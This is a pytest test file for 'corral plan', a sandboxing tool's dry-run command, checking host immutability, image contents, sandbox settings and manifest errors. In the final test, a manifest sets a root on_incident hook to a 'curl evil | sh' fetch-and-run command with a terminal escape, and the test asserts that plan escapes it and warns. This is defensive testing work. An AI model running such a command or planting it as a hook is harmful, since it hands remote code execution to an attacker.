"""`corral plan`: the desired state, computed without changing anything."""

from __future__ import annotations

import json
import os
import subprocess

import pytest

from conftest import EXAMPLES, corral, write_manifest

NOTES = str(EXAMPLES / "notes" / "notes.toml")


def host_snapshot() -> dict:
    files = ("/etc/passwd", "/etc/group", "/etc/shadow", "/etc/gshadow")
    tables = subprocess.run(["nft", "list", "tables"], capture_output=True, text=True).stdout
    return {"files": {f: open(f, "rb").read() for f in files}, "tables": tables}


@pytest.mark.root
def test_plan_changes_nothing(corral_root):
    before = host_snapshot()
    text = corral("plan", NOTES, check=True).stdout
    data = json.loads(corral("plan", NOTES, "--json", check=True).stdout)
    assert host_snapshot() == before
    assert not any(corral_root.iterdir()), "plan must not create state"
    assert "corral-notes-app" in text and "table inet corral-notes" in text
    assert data["users"] == [{"name": "corral-notes-app", "process": "app",
                              "comment": "corral service notes process app"}]


def test_plan_json_contents():
    data = json.loads(corral("plan", NOTES, "--json", check=True).stdout)
    entries = {e["path"]: e for e in data["image"]["entries"]}
    # The interpreter and libc come from the ELF closure, not from `include`.
    assert entries["/usr/bin/python3.11"]["kind"] == "file"
    assert entries["/lib64"] == {"path": "/lib64", "kind": "symlink", "mode": "0777",
                                 "target": "usr/lib64"}
    assert "/usr/lib/x86_64-linux-gnu/libc.so.6" in entries
    assert any(p.startswith("/usr/lib/x86_64-linux-gnu/libpython3.11.so") for p in entries)
    # Nothing of the host that was not asked for: no shell, no other binaries.
    assert "/bin/sh" not in entries and "/usr/bin/bash" not in entries
    assert not any(p.startswith("/usr/bin/") and p != "/usr/bin/python3.11" for p in entries)
    assert entries["/srv/notes"]["kind"] == "dir" and entries["/tmp"]["mode"] == "1777"
    zone = ["/etc/localtime"] if os.path.isfile("/etc/localtime") else []  # the host's zone
    assert [a["path"] for a in data["image"]["added"]] == zone + ["/opt/notes/notes.py"]
    assert data["volumes"][0]["owner"] == "corral-notes-app"
    assert data["volumes"][0]["mode"] == "0750"
    assert data["nftables"]["nftables"][0] == {"add": {"table": {"family": "inet",
                                                                 "name": "corral-notes"}}}
    sandbox = data["sandbox"][0]
    assert sandbox["user"] == "corral-notes-app" and sandbox["no_new_privs"] is True
    assert sandbox["capabilities"] == [] and "ptrace" in sandbox["seccomp"]["syscalls"]
    assert sandbox["landlock"]["tcp_bind"] == [8080]
    assert sandbox["limits"]["memory"] == 128 << 20


def test_plan_reports_host_dependent_problems(tmp_path):
    path = write_manifest(tmp_path, "web", """
[image]
include = ["/usr/bin/python3.11", "/usr/bin/no-such-tool"]
add = { "/opt/app" = "missing-dir" }
[process.app]
command = ["/usr/bin/python3.11"]
""")
    result = corral("plan", str(path))
    assert result.returncode == 2
    assert result.stderr.startswith(f'{path}: image.include[1]: "/usr/bin/no-such-tool"')
    assert "Traceback" not in result.stderr


def test_plan_refuses_a_program_outside_the_image(tmp_path):
    path = write_manifest(tmp_path, "web", """
[image]
include = ["/usr/bin/python3.11"]
[process.app]
command = ["/usr/bin/perl", "-e", "1"]
""")
    result = corral("plan", str(path))
    assert result.returncode == 2
    assert result.stderr.strip() == (f'{path}: process.app.command[0]: "/usr/bin/perl": '
                                     "not in the image (add it to image.include)")


@pytest.mark.skipif(not os.path.islink("/bin"), reason="needs a merged /usr (/bin -> usr/bin)")
def test_plan_finds_a_program_through_a_symlinked_directory(tmp_path):
    """Review 6.5: on a merged-/usr host the image holds /bin as a symlink and /usr/bin/true as
    the file, never /bin/true itself; the command resolves through the image's links."""
    path = write_manifest(tmp_path, "web", """
[image]
include = ["/bin/true"]
[process.app]
command = ["/bin/true"]
""")
    result = corral("plan", str(path), "--json")
    assert result.returncode == 0, result.stderr
    entries = {e["path"]: e for e in json.loads(result.stdout)["image"]["entries"]}
    assert entries["/bin"]["kind"] == "symlink" and entries["/usr/bin/true"]["kind"] == "file"


def test_plan_still_refuses_a_link_that_leads_out_of_the_image(tmp_path):
    """A link present in the image whose target is not: still not in the image."""
    path = write_manifest(tmp_path, "web", """
[image]
include = ["/usr/bin/python3.11"]
[process.app]
command = ["/bin/perl", "-e", "1"]
""")
    result = corral("plan", str(path))
    assert result.returncode == 2
    assert '"/bin/perl": not in the image' in result.stderr


def test_plan_of_an_invalid_manifest_is_exit_2(tmp_path):
    path = write_manifest(tmp_path, "web", '[process.app]\ncommand = "oops"\n')
    result = corral("plan", str(path), "--json")
    assert result.returncode == 2 and result.stdout == ""
    assert result.stderr.strip() == f"{path}: process.app.command: expected a list, got a string"


def test_image_from_a_root_directory(tmp_path):
    root = tmp_path / "rootfs"
    (root / "usr/bin").mkdir(parents=True)
    (root / "usr/bin/app").write_text("#!/bin/false\n")
    os.chmod(root / "usr/bin/app", 0o755)
    (root / "etc").mkdir()
    os.symlink("/etc/shadow", root / "etc/escape")  # must resolve inside rootfs, not the host
    path = write_manifest(tmp_path, "web", f"""
[image]
from = "{root}"
[process.app]
command = ["/usr/bin/app"]
""")
    data = json.loads(corral("plan", str(path), "--json", check=True).stdout)
    paths = {e["path"]: e for e in data["image"]["entries"]}
    assert paths["/usr/bin/app"]["kind"] == "file"
    assert paths["/etc/escape"]["target"] == "/etc/shadow"
    assert "/etc/shadow" not in paths


def test_plan_shows_and_warns_about_on_incident(tmp_path):
    """on_incident runs as root, outside every containment (red team 2026-12-04, 18): a
    manifest that sets it must say so in `plan`, escaped."""
    path = write_manifest(tmp_path, "web", """
[image]
include = ["/usr/bin/python3.11"]
[process.app]
command = ["/usr/bin/python3.11"]
[watch]
on_incident = ["/bin/sh", "-c", "curl evil | sh \\u001b[2J"]
""")
    text = corral("plan", str(path), check=True).stdout
    assert "on_incident   /bin/sh -c curl evil | sh \\x1b[2J" in text
    assert "warning: on_incident runs as root" in text
    assert "\x1b" not in text
    plain = write_manifest(tmp_path, "web2", """
[image]
include = ["/usr/bin/python3.11"]
[process.app]
command = ["/usr/bin/python3.11"]
""")
    assert "on_incident" not in corral("plan", str(plain), check=True).stdout
